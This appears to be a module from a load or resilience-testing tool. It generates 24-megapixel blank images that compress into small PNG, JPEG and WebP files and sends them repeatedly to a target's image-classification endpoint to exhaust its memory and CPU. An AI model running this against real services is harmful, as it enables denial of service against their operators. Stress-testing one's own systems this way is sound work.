// Images of 24 million pixels in small files: PNG (interlaced), JPEG (progressive), WebP. Four at once, at most eight per second.
import sharp from 'sharp';
import { type Attack, turns } from '../attack';
import { classifyPath, float } from '../networks';
import { send } from '../requests';

export const attack: Attack = async (target, tally) => {
  const image = sharp({ create: { width: 4900, height: 4900, channels: 3, background: 'white' }, limitInputPixels: false });
  const bodies = [
    await image.clone().png({ progressive: true, compressionLevel: 1 }).toBuffer(),
    await image.clone().jpeg({ progressive: true }).toBuffer(),
    await image.clone().webp({ effort: 0 }).toBuffer(),
  ];
  return async (signal) => {
    let waiting = 0;
    let i = 0;
    for await (const _ of turns(8, signal)) {
      if (waiting >= 4) continue;
      waiting++;
      const body = bodies[i++ % bodies.length]!;
      void send(target, tally, { path: classifyPath(float), body }).then(() => waiting--);
    }
  };
};
